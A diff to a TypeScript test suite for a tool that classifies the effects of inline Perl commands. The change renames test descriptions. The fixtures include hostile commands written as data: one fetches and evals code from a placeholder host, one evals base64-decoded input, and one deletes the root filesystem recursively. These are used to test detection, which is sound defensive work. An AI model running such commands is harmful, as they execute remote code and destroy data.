@@ -102,7 +102,7 @@ const opaque: readonly string[] = [
 ];
 
 describe('inline Perl', () => {
-	it.each(Object.entries(table))('%s', (code, expected) => {
+	it.each(Object.entries(table))('has exactly the expected effects: %s', (code, expected) => {
 		expect(effectsOf(`perl -e ${quoted(code)}`)).toEqual([...expected].sort());
 	});
 
@@ -117,7 +117,7 @@ describe('inline Perl', () => {
 		],
 		['use LWP::Simple; eval get("http://e.example/x")', 'fetched code'],
 		['use MIME::Base64; eval decode_base64($ARGV[0])', 'decoded code'],
-	])('is forbidden: %s', (code, expected) => {
+	])('has a forbidden effect: %s', (code, expected) => {
 		expect(effectsOf(`perl -e ${quoted(code)}`)).toContain(expected);
 	});
 
@@ -139,7 +139,7 @@ describe('inline Perl', () => {
 		["perl -d -e 'print 1'", ['opaque']],
 		["perl <<'EOF'\nsystem('rm -rf /');\nEOF", ['delete / recursive']],
 		['perl x.pl', ['exec x.pl']],
-	])('%s', (command, expected) => {
+	])('has the expected effects in a whole command: %s', (command, expected) => {
 		expect(effectsOf(command)).toEqual([...expected].sort());
 	});
 });
